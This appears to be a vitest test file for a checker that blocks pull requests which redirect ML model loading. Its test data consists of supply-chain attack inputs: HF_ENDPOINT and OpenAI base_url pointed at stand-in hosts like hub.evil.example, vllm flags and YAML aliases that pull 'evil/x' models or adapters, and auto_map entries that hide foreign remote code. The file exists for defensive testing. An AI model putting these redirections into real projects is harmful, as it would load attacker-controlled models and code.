/** What the process that runs a load is told, and what starts it (T37, T42). */
import { describe, expect, it } from 'vitest';
import { type Attack, FLOATING, GOOD, HONEST, IMPORT, judge, PINNED, STRICT } from '../support/attack.ts';
import { checking } from '../support/checking.ts';

const change = checking();

const OTHER = 'https://hub.evil.example';
const RUN = 'FROM python:3\nCOPY app /srv/app\n';
const CMD = 'CMD ["python", "/srv/app/a.py"]\n';

async function refuses(attack: Attack): Promise<void> {
  expect(await judge(change, attack)).toMatchObject({ merges: false });
}

describe('an endpoint is another source', () => {
  it.each<[string, Attack['head']]>([
    ['ENV of the Dockerfile that runs the app', { 'app/a.py': PINNED, Dockerfile: `${RUN}ENV HF_ENDPOINT=${OTHER}\n${CMD}` }],
    ['ENV in its old spelling', { 'app/a.py': PINNED, Dockerfile: `${RUN}ENV HF_ENDPOINT ${OTHER}\n${CMD}` }],
    ['a command that exports it', { 'app/a.py': PINNED, Dockerfile: `${RUN}CMD HF_ENDPOINT=${OTHER} python /srv/app/a.py\n` }],
    [
      'a compose file, as a map',
      {
        'app/a.py': PINNED,
        'compose.yaml': `services:\n  web:\n    build: .\n    command: python app/a.py\n    environment:\n      HF_ENDPOINT: ${OTHER}\n`,
      },
    ],
    [
      'a compose file, as a list',
      { 'app/a.py': PINNED, 'compose.yaml': `services:\n  web:\n    build: .\n    environment:\n      - HF_ENDPOINT=${OTHER}\n` },
    ],
    [
      'a workflow',
      {
        'app/a.py': PINNED,
        '.github/workflows/run.yml': `on: push\nenv:\n  HF_ENDPOINT: ${OTHER}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: python app/a.py\n`,
      },
    ],
    ['.env', { 'app/a.py': PINNED, '.env': `HF_ENDPOINT=${OTHER}\n` }],
    ['os.environ |=', { 'app/a.py': `import os\nos.environ |= {"HF_ENDPOINT": "${OTHER}"}\n${PINNED}` }],
    ['os.environ.update', { 'app/a.py': `import os\nos.environ.update({"HF_ENDPOINT": "${OTHER}"})\n${PINNED}` }],
    ['setdefault', { 'app/a.py': `import os\nos.environ.setdefault("HF_ENDPOINT", "${OTHER}")\n${PINNED}` }],
    [
      'a client',
      { 'app/a.py': `from huggingface_hub import HfApi\nHfApi(endpoint="${OTHER}").snapshot_download("acme/a", revision="${GOOD}")\n` },
    ],
    [
      'an argument',
      {
        'app/a.py': `from huggingface_hub import snapshot_download\nsnapshot_download("acme/a", revision="${GOOD}", endpoint="${OTHER}")\n`,
      },
    ],
    [
      'another hub by import',
      { 'app/a.py': `from modelscope import AutoModel\nAutoModel.from_pretrained("acme/a", revision="${GOOD}")\n` },
    ],
    [
      'another hub by a variable',
      {
        'app/a.py': `import os\nos.environ["VLLM_USE_MODELSCOPE"] = "True"\nfrom vllm import LLM\nLLM("acme/a", revision="${GOOD}", tokenizer_revision="${GOOD}")\n`,
      },
    ],
  ])('%s', (_, head) => refuses({ head }));

  it.each<[string, Attack['head']]>([
    ['a template', { 'app/a.py': PINNED, '.env.example': `HF_ENDPOINT=${OTHER}\n` }],
    ['a test', { 'app/a.py': PINNED, 'tests/test_a.py': `import os\nos.environ["HF_ENDPOINT"] = "${OTHER}"\n` }],
    ['the hub itself', { 'app/a.py': PINNED, '.env': 'HF_ENDPOINT=https://huggingface.co\n' }],
  ])('sets nothing: %s', async (_, head) => {
    expect(await judge(change, { head })).toMatchObject({ merges: true });
  });

  it('a client of another address is no service of OpenAI', async () => {
    const policy = `${STRICT}services: { allow: ["service:openai/*"] }\n`;
    const ask = (client: string): string =>
      `from openai import OpenAI\nc = ${client}\nc.chat.completions.create(model="gpt-4o", messages=[])\n`;
    expect(await judge(change, { policy, head: { 'app/a.py': ask('OpenAI()') } })).toMatchObject({ merges: true });
    expect(await judge(change, { policy, head: { 'app/a.py': ask('OpenAI(base_url="https://llm.evil.example/v1")') } })).toMatchObject({
      merges: false,
    });
  });
});

describe('what an entry point starts is product, whatever its folder is called', () => {
  it.each<[string, Attack['head']]>([
    ['by a Dockerfile', { 'demo/serve.py': FLOATING, Dockerfile: 'FROM python:3\nCOPY . /srv\nCMD ["python", "demo/serve.py"]\n' }],
    ['as a module', { 'examples/serve.py': FLOATING, Dockerfile: 'FROM python:3\nCOPY . /srv\nENTRYPOINT python -m examples.serve\n' }],
    [
      'by a compose file',
      { 'demo/serve.py': FLOATING, 'compose.yaml': 'services:\n  web:\n    build: .\n    command: uvicorn demo.serve:app\n' },
    ],
    [
      'as a script of the package',
      {
        'acme/spec/__init__.py': '',
        'acme/__init__.py': '',
        'acme/spec/load.py': FLOATING,
        'pyproject.toml': '[project]\nname = "acme"\nversion = "1"\n[project.scripts]\nload = "acme.spec.load:main"\n',
      },
    ],
    ['by runpy', { 'tests/m.py': FLOATING, 'app/a.py': 'import runpy\nrunpy.run_module("tests.m")\n' }],
    ['by a subprocess', { 'demo/x.py': FLOATING, 'app/a.py': 'import subprocess\nsubprocess.run(["python", "demo/x.py"])\n' }],
    ['by a Procfile', { 'demo/serve.py': FLOATING, Procfile: 'web: python demo/serve.py\n' }],
  ])('%s', (_, head) => refuses({ head }));

  it('a start that is added makes old code product', () =>
    refuses({
      base: { 'demo/serve.py': FLOATING },
      head: { Dockerfile: 'FROM python:3\nCOPY . /srv\nCMD ["python", "demo/serve.py"]\n' },
    }));

  it('the control: what nothing starts is an example', async () => {
    expect(await judge(change, { head: { 'demo/serve.py': FLOATING } })).toMatchObject({ merges: true });
  });
});

describe('everything that a command line is told to load', () => {
  const serve = (args: string): Attack['head'] => ({ Dockerfile: `FROM python:3\nCMD vllm serve ${args}\n` });
  const pinned = `acme/a --revision ${GOOD} --tokenizer-revision ${GOOD}`;
  it.each<[string, Attack['head']]>([
    ['a second model', serve(`${pinned} --model evil/x`)],
    ['a tokenizer of elsewhere', serve(`${pinned} --tokenizer evil/x`)],
    ['an adapter', serve(`${pinned} --enable-lora --lora-modules a=evil/x`)],
    ['a draft', serve(`${pinned} --speculative-model evil/x`)],
    ['the revision of its code', serve(`${pinned} --trust-remote-code --code-revision main`)],
    ['a configuration file', { ...serve('--config serve.yaml'), 'serve.yaml': 'model: evil/x\n' }],
    ['what the caller adds', serve(`${pinned} "$@"`)],
    ['a YAML alias', { 'train.yaml': 'x: &m evil/x\nbase_model: *m\nmodel_type: LlamaForCausalLM\n' }],
    ['a YAML merge key', { 'train.yaml': 'd: &d\n  base_model: evil/x\ntrain:\n  <<: *d\n  learning_rate: 1\n' }],
    ['a YAML file that loses its revision', { 'train.yaml': 'base_model: acme/a\nlearning_rate: 1\n' }],
  ])('%s', (name, head) =>
    refuses({
      ...(name.endsWith('loses its revision')
        ? { base: { 'train.yaml': `base_model: acme/a\nrevision_of_model: ${GOOD}\nlearning_rate: 1\n` } }
        : {}),
      head,
    }),
  );
});

describe('adapters and code of elsewhere are parts of the load (T36)', () => {
  const json = (path: string, value: unknown) => ({ path, size: 1, text: JSON.stringify(value) });
  const trusting = `${IMPORT}AutoModel.from_pretrained("acme/a", revision="${GOOD}", trust_remote_code=True)\n`;
  const FOREIGN = { auto_map: { AutoModel: 'evil/x--m.M' } };
  it.each<[string, Attack]>([
    [
      'an adapter of the tree',
      {
        head: {
          'adapter/adapter_config.json': '{"base_model_name_or_path": "evil/x"}',
          'app/a.py': 'from peft import AutoPeftModel\nAutoPeftModel.from_pretrained("./adapter")\n',
        },
      },
    ],
    [
      'an adapter in a folder of a repository',
      {
        head: { 'app/a.py': `${IMPORT}AutoModel.from_pretrained("acme/a", revision="${GOOD}", subfolder="lora")\n` },
        repos: [{ ...HONEST, files: [json('lora/adapter_config.json', { base_model_name_or_path: 'evil/x' })] }],
      },
    ],
    [
      'code behind 50 classes',
      {
        head: { 'app/a.py': trusting },
        repos: [
          { ...HONEST, config: { auto_map: { AutoModel: [...Array.from({ length: 60 }, (_, index) => `m.C${index}`), 'evil/x--m.M'] } } },
        ],
      },
    ],
    [
      'code beside an entry of the wrong type',
      { head: { 'app/a.py': trusting }, repos: [{ ...HONEST, config: { auto_map: { AutoConfig: 7, AutoModel: 'evil/x--m.M' } } }] },
    ],
    ['code of the tokenizer', { head: { 'app/a.py': trusting }, repos: [{ ...HONEST, files: [json('tokenizer_config.json', FOREIGN)] }] }],
    ['code of a folder', { head: { 'app/a.py': trusting }, repos: [{ ...HONEST, files: [json('text/config.json', FOREIGN)] }] }],
  ])('%s', (_, attack) => refuses(attack));
});
